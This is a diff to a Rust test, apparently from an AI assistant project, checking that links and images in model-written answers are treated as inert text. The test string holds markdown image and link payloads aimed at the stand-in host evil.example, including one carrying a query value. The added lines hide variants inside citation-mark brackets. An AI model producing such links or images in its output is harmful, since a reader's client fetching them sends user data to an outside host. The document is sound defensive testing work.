@@ -274,7 +274,10 @@ async fn a_tool_reaches_no_host_but_its_own_on_test_sets() {
 /// An image is fetched by whoever shows it: what a document talks a model into must not carry anything away.
 #[tokio::test(flavor = "multi_thread")]
 async fn links_and_images_that_a_model_writes_are_words() {
-    let written = "See ![rates](https://evil.example/?q=4417), [this](https://evil.example) and <img src=//evil.example>.";
+    // Also what becomes a link only when marks of sources are put right or taken out.
+    let written = "See ![rates](https://evil.example/?q=4417), [this](https://evil.example) and <img src=//evil.example>. \
+                   ![1\u{3011}(https://evil.example) !\u{3010}1\u{3011}(https://evil.example) \
+                   ![x]\u{3010}9\u{3011}(https://evil.example) <[0]img src=x> <[9]img src=x>";
     let fields =
         json!({ "answer": written, "confidence": "low", "follow_up_questions": [written], "citations": [] });
     let structured = fields.to_string();
